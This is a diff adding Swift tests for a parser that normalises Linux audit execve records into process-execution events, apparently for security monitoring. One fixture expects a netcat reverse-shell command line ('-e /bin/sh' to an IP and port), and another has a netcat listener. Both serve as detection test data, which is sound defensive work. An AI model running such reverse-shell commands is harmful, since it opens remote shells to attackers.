@@ -1,0 +1,93 @@
+import ExecEvents
+import Testing
+
+@testable import AuditRecords
+
+private func exec(syscallExtra: String = "", execve: String? = nil, path0: String? = nil,
+                  comm: String = "\"comm\"", exe: String = "\"/usr/bin/exe\"") -> String {
+    var lines = ["type=SYSCALL msg=audit(1700000000.000:5): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=100 auid=1000 uid=1001 euid=0 comm=\(comm) exe=\(exe) \(syscallExtra)"]
+    if let execve { lines.append("type=EXECVE msg=audit(1700000000.000:5): \(execve)") }
+    if let path0 { lines.append("type=PATH msg=audit(1700000000.000:5): item=0 name=\(path0) inode=1") }
+    lines.append("type=EOE msg=audit(1700000000.000:5):")
+    return lines.joined(separator: "\n")
+}
+
+@Suite("Normalization into LINUX_PROCESS_EXEC")
+struct NormalizationTests {
+    @Test func procNameComesFromPathItemZeroThenA0ThenCommThenExe() {
+        let users: [Int64: String] = [:]
+        #expect(replay(text: exec(execve: "argc=1 a0=\"a0name\"", path0: "\"/usr/bin/nc\""), users: users).events.first?.procName == "nc")
+        #expect(replay(text: exec(execve: "argc=1 a0=\"/opt/a0name\""), users: users).events.first?.procName == "a0name")
+        #expect(replay(text: exec(), users: users).events.first?.procName == "comm")
+        #expect(replay(text: exec(comm: "(null)"), users: users).events.first?.procName == "exe")
+        // fexecve: PATH item 0 has an empty name; fall back to a0.
+        #expect(replay(text: exec(execve: "argc=1 a0=\"ncat\"", path0: "\"\""), users: users).events.first?.procName == "ncat")
+        // A relative path and a trailing slash still give the base name.
+        #expect(replay(text: exec(path0: "\"./tools/nc.traditional\""), users: users).events.first?.procName == "nc.traditional")
+    }
+
+    @Test func invokedNameIsKeptEvenThroughSymlinks() throws {
+        // Debian's /usr/bin/nc → /etc/alternatives/nc → /bin/nc.openbsd.
+        let event = try #require(replay(text: exec(execve: "argc=3 a0=\"nc\" a1=\"-l\" a2=\"4444\"", path0: "\"/usr/bin/nc\"", comm: "\"nc\"", exe: "\"/usr/bin/nc.openbsd\"")).events.first)
+        #expect(event.procName == "nc")
+        #expect(event.exePath == "/usr/bin/nc.openbsd")
+        #expect(event.swParam == "-l 4444")
+    }
+
+    @Test func swParamIsEmptyForABareCommandAndAbsentWithoutExecve() {
+        #expect(replay(text: exec(execve: "argc=1 a0=\"nc\"")).events.first?.swParam == "")
+        #expect(replay(text: exec()).events.first?.swParam == nil)
+    }
+
+    @Test func userFromEnrichedTranslationThenDatabaseThenNumber() {
+        let enriched = exec(syscallExtra: "key=(null)\u{1d}AUID=\"carol\" UID=\"dave\"")
+        #expect(replay(text: enriched, users: [1001: "db-user"]).events.first?.user == "dave")
+        #expect(replay(text: enriched, users: [1001: "db-user"]).events.first?.loginUser == "carol")
+        #expect(replay(text: exec(), users: [1001: "db-user", 1000: "login"]).events.first?.user == "db-user")
+        #expect(replay(text: exec(), users: [1001: "db-user", 1000: "login"]).events.first?.loginUser == "login")
+        #expect(replay(text: exec(), users: [:]).events.first?.user == "1001")
+        #expect(replay(text: exec(), users: [:]).events.first?.loginUser == "1000")
+    }
+
+    @Test func parentProcNameComesFromTheExecsSeenBefore() {
+        let text = """
+            type=SYSCALL msg=audit(1700000000.000:1): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=200 uid=0 comm="bash" exe="/bin/bash"
+            type=EXECVE msg=audit(1700000000.000:1): argc=1 a0="bash"
+            type=EOE msg=audit(1700000000.000:1):
+            type=SYSCALL msg=audit(1700000000.100:2): arch=c000003e syscall=59 success=yes exit=0 ppid=200 pid=201 uid=0 comm="nc" exe="/usr/bin/nc.openbsd"
+            type=EXECVE msg=audit(1700000000.100:2): argc=1 a0="nc"
+            type=EOE msg=audit(1700000000.100:2):
+            """
+        let events = replay(text: text).events
+        #expect(events.map(\.parentProcName) == [nil, "bash"])
+    }
+
+    @Test func systemUserDatabaseResolvesRoot() {
+        var database = SystemUserDatabase()
+        #expect(database.name(forUID: 0) == "root")
+        #expect(database.name(forUID: 3_999_999_999) == nil)
+        #expect(database.name(forUID: 0) == "root")  // cached answer is the same
+    }
+
+    @Test func eventJSONHasTheDesignAttributeNames() throws {
+        let event = try #require(replay(text: ncExec).events.first)
+        let json = try JSONValue.parse(event.jsonLine)
+        #expect(json["eventType"] == .string("LINUX_PROCESS_EXEC"))
+        #expect(json["eventTime"] == .string("2026-11-29T05:55:22.174Z"))
+        #expect(json["hostName"] == .string("test-host"))
+        #expect(json["user"] == .string("bob"))
+        #expect(json["procName"] == .string("nc"))
+        #expect(json["swParam"] == .string("-e /bin/sh 10.0.0.1 4444"))
+        #expect(json["procId"] == .integer(4001))
+        #expect(json["parentProcId"] == .integer(4000))
+        #expect(json["exePath"] == .string("/usr/bin/nc.openbsd"))
+        #expect(json["cwd"] == .string("/home/bob"))
+        #expect(json["uid"] == .integer(1001))
+        #expect(json["auid"] == .integer(1000))
+        #expect(json["args"] == .array(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"].map(JSONValue.string)))
+        #expect(json["argsHex"] == nil)
+        // What is written can be read back as the same event.
+        let back = try ExecEvent(json: json, defaultHostName: "other")
+        #expect(back == event)
+    }
+}
